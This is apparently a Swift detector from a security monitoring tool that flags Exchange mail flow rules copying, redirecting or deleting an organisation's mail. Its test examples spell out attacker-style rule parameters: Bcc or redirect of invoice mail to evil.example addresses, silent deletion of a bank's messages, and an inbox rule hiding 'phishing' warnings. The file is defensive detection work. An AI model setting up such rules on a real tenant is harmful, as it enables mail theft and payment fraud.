import BreakwaterModel

/// Transport (mail flow) rules that copy, redirect or silently delete the organisation's
/// mail: one rule reaches every mailbox in the tenant.
struct TransportRuleRedirect: Detector {
    let descriptor = DetectorDescriptor(
        id: "Exchange.TransportRule.Redirect", title: "Mail flow rule copies, redirects or deletes mail", category: .transportRuleRedirect,
        severity: .high, stage: .exfiltration, attack: [.emailForwardingRule, .emailHidingRules],
        explanation: """
            A transport rule acts on every message crossing the organisation, not one mailbox: an attacker holding an \
            Exchange administrator's account can Bcc all mail mentioning "invoice" to themselves, redirect the finance \
            team's mail, or delete the bank's warnings before anyone sees them. New-TransportRule and Set-TransportRule \
            are reported when they send mail to an address outside the tenant's domains (RedirectMessageTo, BlindCopyTo, \
            CopyTo, AddToRecipients, or an incident report carrying the original message), delete messages \
            (DeleteMessage), or route them through a named outbound connector — high, because of the reach, except the \
            connector, which is medium as it cannot be judged from the rule alone. Copies inside the tenant are reported \
            only when the change comes from an address or session already suspected (the attacker may hold the internal \
            mailbox). Removing or disabling a rule is not reported.
            """,
        falsePositives: """
            Journaling and compliance copies to an archiving service outside the tenant, and rules that delete spam \
            patterns, are set up by administrators on purpose — rarely, and through a change request. Suppress by \
            destination for a known archiving provider.
            """,
        runbook: """
            Check the rule (Get-TransportRule | fl) and who created it; if not sanctioned, disable and remove it, review the \
            administrator's sign-ins and sessions, revoke them and reset the password, then use message trace to list \
            what the rule copied or deleted since it was created.
            """)

    let kinds: Set<ActionKind> = [.transportRuleChanged]

    func inspect(_ event: Event, in context: inout DetectionContext) {
        guard event.outcome != .failed else { return }
        let operation = event.operation.identityLowercased
        guard operation == "new-transportrule" || operation == "set-transportrule" else { return }
        let parameters = event.parameters
        let suspected = context.isSuspected(event)

        var actions: [String] = []
        var external: [String] = []
        var severity: Severity?
        for name in Self.recipientParameters {
            let recipients = parameters.values(named: name).flatMap(RecipientList.parse)
            guard !recipients.isEmpty else { continue }
            let outside = recipients.filter { RecipientList.isAddress($0) && !context.configuration.isInternal($0) }
            if !outside.isEmpty {
                external += outside.filter { !external.contains($0) }
                actions.append("\(name) \(outside.joined(separator: ", "))")
                severity = .high
            } else if suspected {
                actions.append("\(name) \(recipients.joined(separator: ", "))")
                severity = .high
            }
        }
        if parameters.values(named: "DeleteMessage").contains(where: PropertyValue.isTrue) {
            actions.append("deletes matching messages")
            severity = .high
        }
        if let connector = parameters["RouteMessageOutboundConnector"], !PropertyValue.isEmpty(connector) {
            actions.append("routes matching mail through connector \"\(PropertyValue.unwrapped(connector))\"")
            severity = max(severity ?? .medium, suspected ? .high : .medium)
        }
        guard let severity else { return }

        let rule = PropertyValue.unwrapped(parameters["Name"] ?? parameters["Identity"] ?? event.record.objectID)
        let conditions = Self.conditionParameters.compactMap { name in
            parameters[name].map { "\(name) \(PropertyValue.unwrapped($0))" }
        }
        var details = ["rule": rule, "actions": actions.joined(separator: "; ")]
        if !external.isEmpty { details["destination"] = external.joined(separator: ", ") }
        if !conditions.isEmpty { details["conditions"] = conditions.joined(separator: "; ") }
        let when = conditions.isEmpty ? " for all mail" : " when \(conditions.joined(separator: "; "))"
        let suspicion = suspected ? " from an address or session already suspected" : ""
        context.raise(
            Finding(
                key: "\(rule.identityLowercased)|\(actions.joined(separator: ";").identityLowercased)",
                summary: "\(event.operation) \"\(rule)\"\(suspicion): \(actions.joined(separator: "; "))\(when)",
                evidence: [event.id], severity: severity, details: details))
    }

    /// Actions that send the message, or a copy carrying it, to recipients.
    /// (`AddManagerAsRecipientType` adds the sender's manager, who is always inside.)
    static let recipientParameters = ["RedirectMessageTo", "BlindCopyTo", "CopyTo", "AddToRecipients", "GenerateIncidentReport"]

    /// Conditions shown with the finding, so that the reader sees which mail is affected.
    static let conditionParameters = [
        "SubjectContainsWords", "SubjectOrBodyContainsWords", "From", "FromScope", "SentTo", "SentToScope", "SentToMemberOf",
        "FromAddressContainsWords", "RecipientDomainIs", "SenderDomainIs",
    ]

    var examples: [DetectorExample] {
        let admin = "admin@contoso.com"
        return [
            DetectorExample("a rule Bcc'ing outbound mail to an outside address", .raises(.high)) { timeline in
                timeline.at(day: 2, "22:40")
                timeline.cmdlet(
                    "New-TransportRule", by: admin, from: .hostingUS,
                    parameters: ["Name": "Compliance copy", "SentToScope": "NotInOrganization", "BlindCopyTo": "archive@evil.example"],
                    objectID: "Compliance copy")
            },
            DetectorExample("an existing rule changed to redirect invoices outside", .raises(.high)) { timeline in
                timeline.cmdlet(
                    "Set-TransportRule", by: admin, from: .officeGB,
                    parameters: [
                        "Identity": "Finance routing", "SubjectOrBodyContainsWords": "invoice;remittance",
                        "RedirectMessageTo": "smtp:ap@evil.example",
                    ])
            },
            DetectorExample("a rule silently deleting the bank's mail", .raises(.high)) { timeline in
                timeline.cmdlet(
                    "New-TransportRule", by: admin, from: .officeGB,
                    parameters: ["Name": "Filter", "SenderDomainIs": "bank.example", "DeleteMessage": "$true"])
            },
            DetectorExample("a rule routing mail through a new outbound connector", .raises(.medium)) { timeline in
                timeline.cmdlet(
                    "New-TransportRule", by: admin, from: .officeGB,
                    parameters: ["Name": "Partner route", "RecipientDomainIs": "partner.example", "RouteMessageOutboundConnector": "Relay 2"])
            },
            DetectorExample("an internal copy created from a suspected address", .raises(.high)) { timeline in
                timeline.cmdlet(
                    "New-InboxRule", by: admin, from: .hostingNL,
                    parameters: [
                        "Name": ".", "SubjectOrBodyContainsWords": "phishing;hacked", "MoveToFolder": "RSS Subscriptions", "MarkAsRead": "True",
                    ])
                timeline.advance(minutes: 10)
                timeline.cmdlet(
                    "New-TransportRule", by: admin, from: .hostingNL,
                    parameters: ["Name": "Copy", "SubjectOrBodyContainsWords": "invoice", "BlindCopyTo": "shared.inbox@contoso.com"])
            },
            DetectorExample("a compliance copy to an internal mailbox", .silent) { timeline in
                timeline.cmdlet(
                    "New-TransportRule", by: admin, from: .officeGB,
                    parameters: ["Name": "Legal hold copy", "SentTo": "ceo@contoso.com", "BlindCopyTo": "legal.archive@contoso.com"])
            },
            DetectorExample("a rule copying the sender's manager", .silent) { timeline in
                timeline.cmdlet(
                    "New-TransportRule", by: admin, from: .officeGB,
                    parameters: ["Name": "Manager approval", "FromScope": "InOrganization", "AddManagerAsRecipientType": "Bcc"])
            },
            DetectorExample("a disclaimer rule", .silent) { timeline in
                timeline.cmdlet(
                    "New-TransportRule", by: admin, from: .officeGB,
                    parameters: [
                        "Name": "External disclaimer", "FromScope": "NotInOrganization", "PrependSubject": "[EXTERNAL] ", "DeleteMessage": "False",
                    ])
            },
            DetectorExample("removing and disabling rules", .silent) { timeline in
                timeline.cmdlet("Disable-TransportRule", by: admin, from: .officeGB, parameters: ["Identity": "Compliance copy"])
                timeline.cmdlet("Remove-TransportRule", by: admin, from: .officeGB, parameters: ["Identity": "Compliance copy", "Confirm": "False"])
            },
        ]
    }
}
